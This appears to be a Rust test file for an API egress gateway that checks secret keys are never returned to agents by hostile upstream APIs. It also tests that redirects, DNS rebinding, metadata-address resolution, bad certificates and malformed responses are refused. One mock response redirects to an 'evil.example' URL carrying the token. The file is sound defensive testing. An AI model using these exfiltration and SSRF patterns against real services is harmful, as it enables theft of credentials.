//! APIs that lie, stall, echo and redirect, and agents that try to get at the key through them.

use crate::egress::api::{self, Reaction, Seen, TestApi, response};
use crate::egress::{KEY, World, customer, got};
use crate::support::{LONG, listen};
use bailiwick_api::OutcomeStatus;
use bailiwick_core::SystemId;
use bailiwick_core::constraint::Cidr;
use bailiwick_gateway::egress::address::Guard;
use bailiwick_gateway::egress::spec::{ApiSpec, Key};
use bailiwick_gateway::{Egress, GatewayConfig, Secret};
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use std::net::IpAddr;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use tokio::time::timeout;

/// Every spelling in which a program could find the key.
fn spellings() -> Vec<String> {
    let hex = |sep: &str| KEY.bytes().map(|b| format!("{sep}{b:02x}")).collect::<String>();
    let mut all =
        vec![KEY.to_owned(), KEY.chars().rev().collect(), hex(""), hex("%"), hex("\\u00"), hex("\\x")];
    for before in ["", "a", "ab", "Bearer "] {
        let text = STANDARD.encode(format!("{before}{KEY}"));
        all.push(text.get(4..text.len() - 4).unwrap().to_owned());
    }
    all
}

fn assert_keyless(text: &str) {
    let lower = text.to_ascii_lowercase();
    for spelling in spellings() {
        assert!(!lower.contains(&spelling.to_ascii_lowercase()), "{spelling} in {text}");
    }
}

/// An API that echoes the key in the way that the path names.
fn echoing(seen: &Seen) -> Reaction {
    let sent = seen.header("authorization").to_owned();
    let key = sent.trim_start_matches("Bearer ").to_owned();
    let text = |body: &str| response("200 OK", "Content-Type: text/plain\r\n", body);
    match seen.target.rsplit('/').next().unwrap_or_default() {
        "body" => text(&format!("you said {sent}")),
        "json" => api::json(&format!(r#"{{"headers":{{"authorization":"{sent}","{key}":1}}}}"#)),
        "base64" => text(&STANDARD.encode(format!("x{sent}"))),
        "escaped" => {
            let escaped: String = key.bytes().map(|b| format!("\\u00{b:02x}")).collect();
            api::json(&format!(r#"{{"a":"{escaped}"}}"#))
        }
        "broken-json" => response(
            "200 OK",
            "Content-Type: application/json\r\n",
            &format!(r#"{{"a":"{}"#, key.bytes().map(|b| format!("\\u00{b:02x}")).collect::<String>()),
        ),
        "percent" => text(&key.bytes().map(|b| format!("%{b:02x}")).collect::<String>()),
        "error" => response("500 Oops", "Content-Type: text/html\r\n", &format!("<p>bad token {key}</p>")),
        "challenge" => response("401 No", &format!("WWW-Authenticate: Bearer token=\"{key}\"\r\n"), "no"),
        "headers" => response(
            "200 OK",
            &format!(
                "ETag: \"{key}\"\r\nX-Echo: {sent}\r\nSet-Cookie: session={key}\r\nX-Request-Id: {key}\r\nX-Token: {key}\r\n"
            ),
            "fine",
        ),
        "reason" => response(&format!("200 {key}"), "", "fine"),
        "redirect" => response("302 Found", &format!("Location: https://evil.example/?token={key}\r\n"), ""),
        "redirect-encoded" => response(
            "302 Found",
            &format!(
                "Location: /v2/any/x?t={}\r\n",
                key.bytes().map(|b| format!("%{b:02X}")).collect::<String>()
            ),
            "",
        ),
        "utf16" => text(&key.chars().map(|c| format!("{c}\0")).collect::<String>()),
        "lines" => text(&format!("{}\n{}", &key[..9], &key[9..])),
        _ => api::json("{}"),
    }
}

// proves: A35, INV14, X3
#[tokio::test]
async fn an_api_that_echoes_the_key_gives_it_to_nobody() {
    let world = World::new(echoing).await;
    let ways = [
        "body",
        "json",
        "base64",
        "escaped",
        "broken-json",
        "percent",
        "error",
        "challenge",
        "headers",
        "reason",
        "redirect",
        "redirect-encoded",
        "utf16",
        "lines",
    ];
    for way in ways {
        let got = world.get(&format!("/any/{way}")).await;
        assert_keyless(&got.all());
        assert!(world.api.seen().last().unwrap().header("authorization").contains(KEY), "{way}: it was sent");
    }
    for (_, outcome) in world.point.reported(ways.len()).await {
        assert_keyless(&format!("{outcome:?}"));
    }
    for (_, call) in world.point.decided.lock().unwrap().iter() {
        assert_keyless(&format!("{call:?}"));
    }
    let plain = world.get("/any/body").await;
    assert_eq!((plain.status, plain.body.as_str()), (200, "you said [secret]"));
    let moved = world.get("/any/redirect").await;
    assert_eq!((moved.status, moved.header("location")), (302, "https://evil.example/?token=[secret]"));
    assert_eq!(world.get("/any/percent").await.code(), "upstream.key_echoed");
    let shown = world.get("/any/headers").await;
    assert!(shown.header("set-cookie").is_empty() && shown.header("x-echo").is_empty());
}

// proves: A35, INV14
#[tokio::test]
async fn a_key_in_the_query_is_not_seen_either() {
    let echo = |seen: &Seen| {
        response("404 No", "Content-Type: text/plain\r\n", &format!("no such thing: {}", seen.target))
    };
    let in_query =
        |spec: ApiSpec| ApiSpec { keys: vec![Key::Query("api_key".into(), Secret::new(KEY))], ..spec };
    let world = World::with(echo, in_query, Guard::system()).await;
    let got = world.get("/search?q=x").await;
    assert_eq!(
        (got.status, got.body.as_str()),
        (404, "no such thing: /v2/search?scope=all&q=x&api_key=[secret]")
    );
    assert!(world.api.seen()[0].target.ends_with(&format!("&api_key={KEY}")));
    let own = world.get("/search?q=x&api_key=mine").await;
    assert_eq!(own.code(), "egress.argument");
    assert_eq!(world.api.seen().len(), 1);
}

// proves: A45
#[tokio::test]
async fn redirects_are_shown_and_not_followed() {
    let other = TestApi::start(listen().await.0, customer);
    let away = other.url("/v2/customers/7");
    let world = World::new(move |_| response("307 Moved", &format!("Location: {away}\r\n"), "")).await;
    let got = world.get("/any/x").await;
    assert_eq!(got.status, 307);
    assert!(other.seen().is_empty());
    assert_eq!(world.api.seen().len(), 1);
}

// proves: INV6
#[tokio::test]
async fn answers_that_are_too_large_encoded_broken_or_unreadable_are_withheld() {
    let answers = |seen: &Seen| match seen.target.rsplit('/').next().unwrap_or_default() {
        "large" => response("200 OK", "", &"x".repeat(9 << 20)),
        "endless" => Reaction::Endless(b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n\r\n".to_vec()),
        "gzip" => response("200 OK", "Content-Encoding: gzip\r\n", "\u{1f}\u{8b}"),
        "cut" => Reaction::Bytes(b"HTTP/1.1 200 OK\r\nContent-Length: 99\r\n\r\nshort".to_vec()),
        "two-lengths" => {
            Reaction::Bytes(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nContent-Length: 3\r\n\r\nabc".to_vec())
        }
        "switch" => Reaction::Bytes(
            b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: x\r\nConnection: upgrade\r\n\r\n".to_vec(),
        ),
        "no-http" => Reaction::Bytes(b"SSH-2.0-OpenSSH_9.2\r\n".to_vec()),
        "headers" => response("200 OK", &"X-Filler: 1\r\n".repeat(20_000), ""),
        _ => Reaction::Bytes(Vec::new()),
    };
    let world = World::new(answers).await;
    for (way, code) in [
        ("large", "upstream.too_large"),
        ("endless", "upstream.too_large"),
        ("gzip", "upstream.encoded"),
        ("cut", "upstream.gone"),
        ("two-lengths", "upstream.gone"),
        ("switch", "upstream.encoded"),
        ("no-http", "upstream.gone"),
        ("headers", "upstream.gone"),
        ("nothing", "upstream.gone"),
    ] {
        let got = world.get(&format!("/any/{way}")).await;
        assert_eq!((got.status, got.code().as_str()), (502, code), "{way}");
        assert!(got.json()["detail"].as_str().unwrap().contains("may have taken effect"), "{way}");
    }
    let unknown =
        world.point.reported(9).await.iter().filter(|(_, o)| o.status == OutcomeStatus::Unknown).count();
    assert_eq!(unknown, 9);
}

// proves: INV6
#[tokio::test]
async fn what_fields_cannot_be_picked_from_is_withheld() {
    let answers = |seen: &Seen| match seen.target.rsplit('/').next().unwrap_or_default() {
        "1" => response("200 OK", "Content-Type: text/html\r\n", "<b>078-05-1120</b>"),
        "2" => api::json(r#"{"id":2,"id":3,"ssn":"078-05-1120"}"#),
        "3" => response("403 No", "Content-Type: text/html\r\n", "<b>078-05-1120</b>"),
        _ => api::json(r#"{"id":4,"ssn":"078-05-1120"}"#),
    };
    let world = World::new(answers).await;
    for (id, status) in [(1, 502), (2, 502), (3, 403), (4, 200)] {
        let got = world.get(&format!("/customers/{id}")).await;
        assert_eq!(got.status, status, "{}", got.body);
        assert!(!got.all().contains("078-05-1120"), "{}", got.body);
    }
}

// proves: A66
#[tokio::test]
async fn a_slow_answer_is_given_up_at_its_deadline() {
    let stall = |_: &Seen| Reaction::ThenSilence(b"HTTP/1.1 200 OK\r\nContent-Length: 9\r\n\r\nslo".to_vec());
    let world = World::with(stall, |spec| ApiSpec { call_timeout_ms: 300, ..spec }, Guard::system()).await;
    let got = world.get("/any/x").await;
    assert_eq!((got.status, got.code().as_str()), (504, "upstream.timeout"));
    assert_eq!(world.point.reported(1).await[0].1.status, OutcomeStatus::Unknown);
}

// proves: A58, R2
#[tokio::test]
async fn a_request_in_flight_is_cut_when_its_task_ends() {
    let stall = |_: &Seen| Reaction::ThenSilence(b"HTTP/1.1 200 OK\r\n".to_vec());
    let world = World::new(stall).await;
    let asking = tokio::spawn(got(world.ask("GET", "/any/x")));
    timeout(LONG, async {
        while world.api.seen().is_empty() {
            tokio::task::yield_now().await;
        }
    })
    .await
    .unwrap();
    world.point.dead.store(true, Ordering::SeqCst);
    let cut = timeout(LONG, asking).await.unwrap().unwrap();
    assert_eq!((cut.status, cut.code().as_str()), (502, "task.ended"));
}

// proves: INV7
#[tokio::test]
async fn an_answer_whose_outcome_cannot_be_recorded_is_withheld() {
    let world = World::new(customer).await;
    world.point.report_down.store(true, Ordering::SeqCst);
    let got = world.get("/customers/7").await;
    assert_eq!((got.status, got.code().as_str()), (502, "outcome.unrecorded"));
    assert!(!got.body.contains("Ann"));
}

// proves: A45
#[tokio::test]
async fn a_certificate_that_does_not_verify_ends_it_before_the_key_is_sent() {
    let (other, _) = api::certified("localhost");
    let wrong_root = |spec: ApiSpec| ApiSpec { roots: Some(other.into_bytes()), ..spec };
    let world = World::with(customer, wrong_root, Guard::system()).await;
    let refused = world.get("/customers/7").await;
    assert_eq!((refused.status, refused.code().as_str()), (502, "upstream.certificate"));
    // The right root and another name.
    let wrong_name = |spec: ApiSpec| ApiSpec { url: spec.url.replace("localhost", "127.0.0.1"), ..spec };
    let world2 = World::with(customer, wrong_name, Guard::system()).await;
    assert_eq!(world2.get("/customers/7").await.code(), "upstream.certificate");
    assert!(world.api.seen().is_empty() && world2.api.seen().is_empty());
    assert_eq!(world.point.reported(1).await[0].1.status, OutcomeStatus::Failed);
}

// proves: A45
#[tokio::test]
async fn a_name_that_turns_to_a_private_address_is_not_followed_there() {
    let named = |spec: ApiSpec| ApiSpec { url: spec.url.replace("localhost", "api.example.com"), ..spec };
    // Public at the first look, this machine at every later one.
    let looks = Arc::new(AtomicUsize::new(0));
    let count = looks.clone();
    let flipping = Guard::with(move |_| {
        let first = count.fetch_add(1, Ordering::SeqCst) == 0;
        Box::pin(async move { Ok(vec![IpAddr::from(if first { [192, 0, 2, 1] } else { [127, 0, 0, 1] })]) })
    });
    let world = World::with(customer, named, flipping).await;
    for _ in 0..3 {
        let got = world.get("/customers/7").await;
        assert_eq!((got.status, got.code().as_str()), (502, "upstream.address"));
    }
    assert_eq!(looks.load(Ordering::SeqCst), 3);
    let metadata = Guard::with(|_| Box::pin(async { Ok(vec![IpAddr::from([169, 254, 169, 254])]) }));
    let world2 = World::with(customer, named, metadata).await;
    assert_eq!(world2.get("/customers/7").await.code(), "upstream.address");
    assert!(world.api.seen().is_empty() && world2.api.seen().is_empty());

    // Named by its network, it is reached; one look per connection.
    let asked = Arc::new(Mutex::new(Vec::new()));
    let names = asked.clone();
    let local = Guard::with(move |name| {
        names.lock().unwrap().push(name);
        Box::pin(async { Ok(vec![IpAddr::from([127, 0, 0, 1])]) })
    });
    let network = |spec: ApiSpec| ApiSpec {
        networks: vec![Cidr::parse("127.0.0.0/8").unwrap()],
        url: spec.url.replace("localhost", "api.example.com"),
        ..spec
    };
    let world3 = World::with(customer, network, local).await;
    // The certificate is for another name, so it ends there; but the address was not what ended it.
    assert_eq!(world3.get("/customers/7").await.code(), "upstream.certificate");
    assert_eq!(*asked.lock().unwrap(), ["api.example.com"]);
}

// proves: INV6
#[tokio::test]
async fn an_api_that_is_away_is_told_from_one_that_may_have_acted() {
    let (listener, port) = listen().await;
    drop(listener);
    let gone = move |spec: ApiSpec| ApiSpec { url: format!("https://localhost:{port}/v2"), ..spec };
    let world = World::with(customer, gone, Guard::system()).await;
    let got = world.get("/customers/7").await;
    assert_eq!((got.status, got.code().as_str()), (502, "upstream.unreachable"));
    assert!(got.json()["detail"].as_str().unwrap().contains("Nothing was done"));
    assert_eq!(world.point.reported(1).await[0].1.status, OutcomeStatus::Failed);
}

// proves: INV14
#[test]
fn nothing_that_is_printed_of_a_spec_holds_the_key() {
    let mut spec = ApiSpec::new(SystemId::parse("crm").unwrap(), "https://crm.example.com");
    spec.keys = vec![Key::Header("Authorization".into(), Secret::new(format!("Bearer {KEY}")))];
    assert_keyless(&format!("{spec:?}"));
    spec.url = "nonsense".into();
    let point = Arc::new(crate::support::Scripted::default());
    let config = GatewayConfig::at("http://127.0.0.1:1");
    let error = Egress::new(point, crate::support::NameDoor, vec![spec], config).err().unwrap();
    assert_keyless(&format!("{error} {error:?}"));
}
